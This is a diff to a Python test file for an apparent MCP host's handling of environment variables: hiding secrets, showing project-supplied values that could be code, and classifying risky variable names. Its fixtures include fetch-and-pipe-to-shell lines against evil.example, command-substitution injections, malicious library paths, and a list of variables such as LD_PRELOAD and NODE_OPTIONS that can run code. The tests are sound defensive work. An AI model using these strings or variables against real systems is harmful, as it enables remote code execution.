@@ -2,7 +2,10 @@
 
 import pytest
 
+from mcphost.config.digest import server_digest, shown_environment
 from mcphost.config.masking import fingerprint, masked
+from mcphost.config.risky_variables import risk_of
+from mcphost.config.schema import ServerConfig, Source
 
 
 @pytest.mark.parametrize(
@@ -44,6 +47,86 @@ def test_what_looks_like_a_secret_is_hidden(name: str, value: str, shown: str) -
 )
 def test_everything_else_is_shown_as_it_is(name: str, value: str) -> None:
     assert masked(name, value) == value
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("BASH_FUNC_ls%%", "() { curl -s https://evil.example/s | sh; }"),
+        ("API_TOKEN", "x; curl evil.example | sh"),
+        ("API_TOKEN", "$(touch /tmp/owned)"),
+        ("SECRET", "a`id`b"),
+        ("SECRET", "first\nsecond"),
+        ("PASSWORD", "x&calc"),
+        ("APP_KEY", "/clone/k9ZrT4kLm2XvB7nPw3HsYd8F/evil.so"),
+        ("APP_KEY", "C:\\clone\\evil.dll"),
+        ("SETTING", "--require=./q9ZrT4kLm2XvB7nPw3HsYd8F.js"),
+        ("SETTING", "https://q9ZrT4kLm2XvB7nPw3HsYd8F.evil.example"),
+        ("PRIVATE_KEY", "-----BEGIN PRIVATE KEY----- ; touch /tmp/owned"),
+        ("AUTH", "Bearer x;y"),
+    ],
+)
+def test_a_projects_variable_that_can_be_code_is_shown_whole(name: str, value: str) -> None:
+    assert masked(name, value, foreign=True) == value
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "shown"),
+    [
+        ("API_TOKEN", "hunter2", "[hidden]"),
+        ("AUTH_TOKEN", "Bearer abcdefgh", "Bearer [hidden]"),
+        ("SETTING", "q9ZrT4kLm2XvB7nPw3HsYd8F", "[hidden]"),
+        ("API_KEY", "sk-abcdefghijklmnopqrstuvwx", "[hidden]"),
+        ("DATABASE", "postgres://me:hunter2@db.example/main", "postgres://[hidden]@db.example/main"),
+        ("X", "https://a:b@c/;https://d:$(id)@e", "https://[hidden]@c/;https://d:$(id)@e"),
+    ],
+)
+def test_a_projects_secret_of_one_word_is_hidden(name: str, value: str, shown: str) -> None:
+    assert masked(name, value, foreign=True) == shown
+
+
+def test_a_value_that_can_be_code_is_shown_and_bound_where_a_project_wrote_it() -> None:
+    def server(value: str, source: Source) -> ServerConfig:
+        return ServerConfig(name="x", command="run", env={"API_TOKEN": value}, source=source)
+
+    assert shown_environment(server("a b", "project")) == {"API_TOKEN": "a b"}
+    assert shown_environment(server("a b", "flag")) == {"API_TOKEN": "a b"}
+    assert shown_environment(server("a b", "user")) == {"API_TOKEN": "[hidden]"}
+    assert server_digest(server("a b", "project")) != server_digest(server("a c", "project"))
+
+
+@pytest.mark.parametrize(
+    ("name", "risk"),
+    [
+        ("BASH_FUNC_ls%%", "code"), ("GIT_SSH_VARIANT", "code"), ("EDITOR", "code"), ("PAGER", "code"),
+        ("BROWSER", "code"), ("SHELL", "code"), ("FOO_COMMAND", "code"), ("foo_cmd", "code"), ("SUDO_ASKPASS", "code"),
+        ("GIT_CREDENTIAL_HELPER", "code"), ("AWS_CONFIG_FILE", "code"), ("AWS_SHARED_CREDENTIALS_FILE", "code"),
+        ("ANSIBLE_LIBRARY", "code"), ("CLOUDSDK_PYTHON", "code"), ("SVN_SSH", "code"), ("RSYNC_RSH", "code"),
+        ("PUPPETEER_EXECUTABLE_PATH", "code"), ("LD_PRELOAD", "code"), ("MALLOC_PRELOAD", "code"),
+        ("JRUBY_OPTS", "code"), ("SBT_OPTS", "code"), ("NODE_OPTIONS", "code"), ("FOO_OPTIONS", "code"),
+        ("SSH_AUTH_SOCK", "code"), ("HTTPS_PROXY", "network"), ("npm_config_https_proxy", "packages"),
+        ("GIT_SSL_CAINFO", "network"), ("PGSSLROOTCERT", "network"), ("FOO_CA_BUNDLE", "network"),
+        ("FOO_CONFIG_FILE", "settings"), ("LOG_LEVEL", None), ("PORT", None), ("DATABASE_URL", None),
+        ("API_TOKEN", None), ("PYTHONUNBUFFERED", None),
+    ],
+)  # fmt: skip
+def test_a_variable_is_known_by_how_it_begins_or_ends(name: str, risk: str | None) -> None:
+    assert risk_of(name) == risk
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "shown"),
+    [
+        ("HTTPS_PROXY", "http://q9ZrT4kLm2XvB7nPw3HsYd8F.example:8080", None),
+        ("HTTPS_PROXY", "http://me:hunter2@proxy.example", "http://[hidden]@proxy.example"),
+        ("NPM_CONFIG_AUTH_TOKEN", "hunter2", "[hidden]"),
+        ("FOO_ASKPASS", "sk-abcdefghijklmnopqrstuvwx", None),
+    ],
+)
+def test_of_a_risky_variable_only_what_has_the_form_of_a_secret_is_hidden(
+    name: str, value: str, shown: str | None
+) -> None:
+    assert masked(name, value) == (shown or value)
 
 
 def test_a_fingerprint_stands_for_a_name_and_a_value() -> None:
